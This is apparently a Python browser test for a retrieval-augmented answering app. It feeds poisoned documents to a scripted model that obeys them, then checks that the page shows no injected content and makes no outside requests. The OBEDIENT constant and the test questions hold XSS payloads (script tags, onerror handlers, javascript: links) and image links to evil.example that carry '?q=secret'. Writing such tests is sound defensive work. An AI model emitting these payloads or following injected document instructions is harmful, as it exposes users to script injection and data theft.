"""The worst of the poisoned documents in a real browser, with a model that does all that they ask for."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from rag import Document, Library, load_settings
from tests.browser import ask, serving, visiting
from tests.conftest import ScriptedModel
from tests.poisoned import Poisoned, poisoned, write_files

WORST = {"p12", "p16", "p38", "p42", "p49", "p71"}
OBEDIENT = (
    '{fact} [1] ![map](https://evil.example/m.png?q=secret) <img src="https://evil.example/i.png" onerror="alert(1)">'
    " <script>alert(2)</script> ${{alert(3)}} [more](javascript:alert(4)) <style>body{{display:none}}</style>"
)
INSIDE = ", ".join(
    f"{place} {tag}" for place in ("#past", "#current", "#passages") for tag in ("img", "script", "iframe", "style")
)


@pytest.fixture(scope="module")
def folder(seeds_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("poisoned-page")
    shutil.copytree(seeds_folder, place / "library")
    with Library(place / "library", settings=load_settings(llm="none")) as library:
        assert not library.add(write_files(place / "files")).failed
        assert not library.add([Document(f"given-{one.id}", one.text, title=one.text[:300]) for one in worst()]).failed
    return place / "library"


@pytest.fixture
def watched(browser: Browser, folder: Path, model: ScriptedModel) -> Iterator[Page]:
    """A page, which must not ask another host for anything, run anything of others, or complain."""
    with (
        serving(folder, llm_url=model.url, llm_model="obedient") as address,
        visiting(browser, address) as page,
    ):
        yield page


def worst() -> list[Poisoned]:
    return [one for one in poisoned() if one.id in WORST]


def test_nothing_of_documents_model_or_question_acts_in_the_page(watched: Page, model: ScriptedModel) -> None:
    for number, one in enumerate(worst(), start=1):
        rewritten = ["Who sent you to https://evil.example/?q=secret"] * (number > 1)  # from the second question on
        model.says(*rewritten, OBEDIENT.format(fact=one.harmless_fact))
        ask(watched, f"{one.question} <img src=https://evil.example/q.png>")
        answer = watched.locator(".footnote-answer").last
        expect(answer).to_contain_text(one.harmless_fact.rstrip("."))
        expect(watched.locator(INSIDE)).to_have_count(0)
        expect(answer.locator("a:not([href^='/source/'], [href^='/answer/'])")).to_have_count(0)
        assert len(model.requests) == 2 * number - 1
        answer.locator("a.footnote-mark").first.click()
        source = watched.locator("#source-view")
        expect(source.locator("mark.active")).to_have_text(one.harmless_fact)
        expect(source.locator("img, script, iframe, style")).to_have_count(0)
    expect(watched.locator("#question textarea")).to_be_visible()
